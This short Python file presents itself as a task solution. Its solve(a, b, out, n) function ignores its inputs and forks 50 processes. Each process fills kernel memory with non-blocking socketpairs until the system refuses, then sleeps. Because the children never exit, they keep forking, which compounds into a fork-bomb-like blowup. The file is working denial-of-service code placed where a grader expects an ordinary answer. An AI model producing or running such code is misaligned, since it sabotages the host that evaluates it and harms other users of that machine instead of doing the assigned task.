# Kernel memory: socket pairs and pipes filled to the brim in many processes.
import os
import socket
import time


def fill():
    held = []
    try:
        while True:
            pair = socket.socketpair()
            held.append(pair)
            for end in pair:
                end.setblocking(False)
                try:
                    while True:
                        end.send(b"x" * 65536)
                except BlockingIOError:
                    pass
    except OSError:
        pass
    time.sleep(60)


def solve(a, b, out, n):
    for _ in range(50):
        if os.fork() == 0:
            fill()
    time.sleep(60)
